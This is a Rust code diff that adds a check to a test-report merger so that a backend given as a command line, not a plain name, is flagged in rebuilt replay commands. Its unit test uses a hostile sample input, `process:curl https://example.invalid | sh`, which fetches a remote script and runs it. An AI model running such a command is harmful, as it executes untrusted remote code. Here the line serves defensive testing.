@@ -310,7 +310,17 @@ fn with_rebuilt_replay(bucket: Value, backend: &str) -> Value {
     {
         bucket.insert("reported_replay".into(), reported);
     }
-    let signature = bucket["signature"].as_str().unwrap_or_default();
+    let signature = bucket["signature"].as_str().unwrap_or_default().to_string();
+    if !is_backend_name(backend) {
+        // The backend is a server's command line, text from the reports: the replay runs it.
+        bucket.insert(
+            "replay_runs".into(),
+            json!(format!(
+                "the server command line the shards' reports name: {}",
+                quoted(backend, 200)
+            )),
+        );
+    }
     if let Some(Value::String(saved)) = bucket.get("saved_case") {
         let name = format!(
             "regression.{}.{signature}",
@@ -323,6 +333,16 @@ fn with_rebuilt_replay(bucket: Value, backend: &str) -> Value {
         bucket.insert("replay".into(), json!(replay.render()));
     }
     Value::Object(bucket)
+}
+
+/// Whether a shard's backend is a name (built in, or a backends file's entry, a variant
+/// after `@`) rather than a command line (`process:...`): only a name goes into a rebuilt
+/// replay command.
+fn is_backend_name(backend: &str) -> bool {
+    !backend.is_empty()
+        && backend.len() <= 256
+        && !backend.starts_with('-')
+        && (backend.chars()).all(|c| c.is_ascii_alphanumeric() || "._@-".contains(c))
 }
 
 /// Refuses reports whose `field` differs from the first's.
@@ -448,7 +468,27 @@ fn merged_coverage(shards: &[ShardReport]) -> Value {
 
 #[cfg(test)]
 mod budget_tests {
-    use super::count_json_values;
+    use super::{count_json_values, with_rebuilt_replay};
+    use serde_json::json;
+
+    #[test]
+    fn a_replay_for_a_command_line_backend_says_it_runs_the_reports_command() {
+        let bucket = || json!({"signature": "abc", "saved_case": "cases/r.yaml", "replay": "x"});
+        let named = with_rebuilt_replay(bucket(), "directml@1.15.4");
+        assert_eq!(
+            named["replay"],
+            "dmlcts conformance --backend directml@1.15.4 --cases cases/r.yaml --filter \
+             regression.directml_1_15_4.abc --exact"
+        );
+        assert!(named.get("replay_runs").is_none());
+        let command = with_rebuilt_replay(bucket(), "process:curl https://example.invalid | sh");
+        assert_eq!(command["reported_replay"], "x");
+        assert!(
+            (command["replay_runs"].as_str().unwrap())
+                .ends_with("name: `process:curl https://example.invalid | sh`"),
+            "{command}"
+        );
+    }
 
     #[test]
     fn a_count_never_passes_what_is_left_even_for_a_report_with_no_separators() {
